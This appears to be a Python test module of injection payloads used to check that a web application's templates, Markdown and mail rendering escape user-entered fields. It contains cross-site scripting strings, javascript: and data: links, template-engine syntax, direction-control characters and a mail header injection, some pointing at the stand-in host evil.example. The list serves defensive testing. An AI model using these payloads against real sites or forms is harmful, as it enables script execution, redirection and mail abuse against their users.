"""What an attacker may type into a field: each has been a hole in some template, Markdown or mail renderer.

§ stands for a call that only one field's words make, so that an execution names its way in. Most are short, since a
unit, an IBAN or a tax number has no room for more.
"""

import re

# Beside each payload of a field stand these on the clean page: they make no element that the template did not make.
WORDS, WEB = "Words §", "https://example.example/§"

PAYLOADS = [
    # Where text stands: in an element, an attribute of either quotes or none, a title, a style sheet, a comment.
    "<script>§</script>",
    "\"><img src=x onerror=§>",
    "'><svg onload=§>",
    "</title><script>§</script>",
    "</style></textarea><img src=x onerror=§>",
    "<!--><img src=x onerror=§>-->",
    "\" autofocus onfocus=\"§",
    "' autofocus onfocus='§",
    " autofocus onfocus=§ x=",
    "<iframe srcdoc=\"<script>parent.§</script>\"></iframe>",
    "<details open ontoggle=§>",
    "<math><mtext><table><mglyph><style><img src=x onerror=§>",
    "<xmp><p title=\"</xmp><svg/onload=§>\">",
    "\"\u0301><img src=x onerror=§>",
    "\u2028</script><script>§</script>\u2029",
    # What needs no script of its own.
    "<base href=//evil.example/§>",
    "<meta http-equiv=refresh content=0;url=//evil.example/§>",
    "<link rel=stylesheet href=//evil.example/§>",
    "<img src=//evil.example/§>",
    "<form action=//evil.example/§><button>§</button></form>",
    # Addresses, as such and in Markdown.
    "javascript:§",
    "data:text/html,<script>§</script>",
    "[§](javascript:§)",
    "[§](JaVa\tscript:§)",
    "[§](&#106;avascript:§)",
    "[§](data:text/html,<script>§</script>)",
    "[§](vbscript:§) <javascript:§>",
    "[§][a]\n\n[a]: javascript:§",
    "![§](x \"\" onerror=\"§\")",
    # What is text already, and must not be read once more.
    "&lt;script&gt;§&lt;/script&gt; &#60;b&#62;",
    "+ADw-script+AD4-§+ADw-/script+AD4-",
    # What a template engine, or a format, would take for its own.
    "{{secret}} {{{§}}} {{>partials/shell}}",
    "{{#site}}§{{/site}} {{=<% %>=}} <%§%>",
    "%s %@ %n \\(§) ${§} #{§}",
    # Characters that turn round, end or hide what is around them.
    "\u202etxt.§\u202c \u2066§\u2069",
    "§ \x01\x08\x1b[31m\x7f\u0085.",
    "§\r\nBcc: all@evil.example\r\n\r\n<b>§</b>",
]

# For columns that hold no more than eleven characters.
SHORTEST = "<i>§"

# For columns that are links where they hold an address of the web: what is none, and what is one of an evil kind.
LINKS = [
    "javascript:§", "https://example.example/?&quot;onfocus=(§)&#39;onfocus=§", "//evil.example/§", "https:javascript:§",
]

# For columns that hold nothing but an address: what one may have before its @, where its check wants no bracket.
ADDRESSES = ["'onfocus='§", "{{{§}}}", "{{#§}}", "`§`${§}%s", "&lt&quot§", "#{§}=?"]


def typed(number, column, mark):
    """What is typed into a field, and what a peaceful person would have typed there; both hold the mark."""
    if column.is_address:
        return f"{ADDRESSES[number % len(ADDRESSES)]}@evil.example".replace("§", mark), f"{mark}@example.example"
    choice = LINKS if column.name in ("link", "imprint_url", "privacy_url") else PAYLOADS
    text = choice[number % len(choice)]
    clean = WEB if text.startswith("https://") else WORDS
    if column.longest is not None and len(text.replace("§", mark)) > column.longest:
        text, clean = SHORTEST, "Wo§"
    if column.name.endswith("address"):
        # Each line of an address stands on one of its own.
        clean = "\n".join([clean] * sum(1 for line in re.split("[\r\n]+", text) if line.strip()))
    return text.replace("§", mark), clean.replace("§", mark)


def shown(text):
    """As a page shows it: no blanks, nothing that turns directions; forbidden controls are seen to be there."""
    text = re.sub("[\u202a-\u202e\u2066-\u2069]", "", text)
    return "".join(re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", "\ufffd", text).split())
